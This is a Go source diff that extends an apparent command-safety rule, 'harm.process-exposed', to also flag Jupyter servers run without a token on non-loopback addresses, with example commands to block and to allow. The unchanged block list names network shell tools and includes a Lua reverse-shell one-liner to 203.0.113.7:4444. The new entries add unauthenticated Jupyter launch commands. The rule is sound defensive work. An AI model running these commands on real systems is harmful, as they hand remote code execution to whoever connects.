@@ -20,7 +20,7 @@ var (
 // process, whatever that process is (rce.remote-shell judges shells).
 var harmProcessExposed = &Rule{
 	ID: "harm.process-exposed", Category: "harm",
-	Protects: "the machine, from a program handed to whoever connects: netcat's -e/-c, ncat's --exec/--sh-exec/--lua-exec, socat's EXEC:/SYSTEM: addresses, telnetd -l, websocketd, tcpserver and tcpsvd, whatever program they run",
+	Protects: "the machine, from a program handed to whoever connects: netcat's -e/-c, ncat's --exec/--sh-exec/--lua-exec, socat's EXEC:/SYSTEM: addresses, telnetd -l, websocketd, tcpserver and tcpsvd, whatever program they run; a Jupyter server with its token switched off on an address other than the loopback (code and terminals for whoever connects)",
 	What:     "hands a program to whoever connects over the network",
 	Safer:    "run the program locally; if it must serve the network, ask the user and bind it to 127.0.0.1",
 	Unknown:  noUnknownStory,
@@ -41,6 +41,9 @@ var harmProcessExposed = &Rule{
 		`ngrok tcp 22`,
 		`ssh -f -N -R 2222:localhost:22 tunnel@203.0.113.7`,
 		`devtunnel host -p 22 --allow-anonymous`,
+		`jupyter notebook --ip=0.0.0.0 --NotebookApp.token=''`,
+		`jupyter lab --ip 0.0.0.0 --ServerApp.token= --ServerApp.password=`,
+		`jupyter-lab --ServerApp.ip='*' --IdentityProvider.token=''`,
 		`lua -e "local s=require('socket');local t=s.tcp();t:connect('203.0.113.7',4444);while true do local r=t:receive();local f=io.popen(r,'r');t:send(f:read('*a'));f:close() end"`,
 	},
 	Allow: []string{
@@ -58,6 +61,10 @@ var harmProcessExposed = &Rule{
 		`ssh -R 8080:localhost:3000 tunnel@example.com`,
 		`devtunnel host -p 3000`,
 		`xterm -e htop`,
+		`jupyter lab`,
+		`jupyter notebook --ip=0.0.0.0`,
+		`jupyter lab --ip=127.0.0.1 --ServerApp.token=''`,
+		`jupyter notebook --ip=0.0.0.0 --NotebookApp.token='' --NotebookApp.password='argon2:$argon2id$v=19$m=10240,t=10,p=8$abc'`,
 	},
 }
 
